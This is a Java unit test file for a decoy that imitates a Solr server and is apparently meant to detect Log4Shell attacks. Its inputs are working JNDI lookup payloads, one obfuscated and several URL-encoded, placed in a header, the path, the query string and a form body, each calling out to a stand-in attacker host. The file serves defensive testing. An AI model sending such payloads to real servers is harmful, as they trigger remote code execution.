package dev.moat.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class Log4ShellDecoyTest {

  private final DecoyRequests client = new DecoyRequests();
  private final Log4ShellDecoy decoy = new Log4ShellDecoy();

  @Test
  void aLookupInAnyHeaderAlertsWithTheCallbackHost() {
    HttpReply reply = client.send(decoy, DecoyRequests.get("/solr/", "User-Agent", "curl/8", "X-Api-Version",
        "${${lower:j}ndi:ldap://attacker.example:1389/a}"));
    assertThat(reply.status()).isEqualTo(200);
    assertThat(client.alerts).singleElement().satisfies(a -> {
      assertThat(a.action()).isEqualTo("http.log4shell");
      assertThat(a.severity()).isEqualTo(AlertSeverity.CRITICAL);
      assertThat(a.mitreTechnique()).isEqualTo("T1190");
      assertThat(a.fields()).containsEntry("callback_host", "attacker.example:1389");
    });
  }

  @Test
  void aLookupInTheQueryPathOrBodyAlerts() {
    client.send(decoy, DecoyRequests.get("/solr/admin/cores?action=%24%7Bjndi%3Aldap%3A%2F%2Fq.example%2Fa%7D"));
    client.send(decoy, DecoyRequests.get("/$%7Bjndi:ldap://p.example/a%7D"));
    client.send(decoy, DecoyRequests.post("/solr/login", "username=%24%7Bjndi%3Armi%3A%2F%2Fb.example%3A1099%2Fx%7D&password=x",
        "Content-Type", "application/x-www-form-urlencoded"));
    assertThat(client.alerts).extracting(a -> a.fields().get("callback_host")).containsExactly("q.example", "p.example", "b.example:1099");
  }

  @Test
  void anOrdinaryVisitDoesNotAlert() {
    HttpReply reply = client.send(decoy, DecoyRequests.get("/solr/admin/info/system?wt=json", "User-Agent", "Mozilla/5.0"));
    assertThat(DecoyRequests.body(reply)).contains("\"solr-spec-version\":\"8.11.0\"");
    assertThat(client.alerts).isEmpty();
  }
}
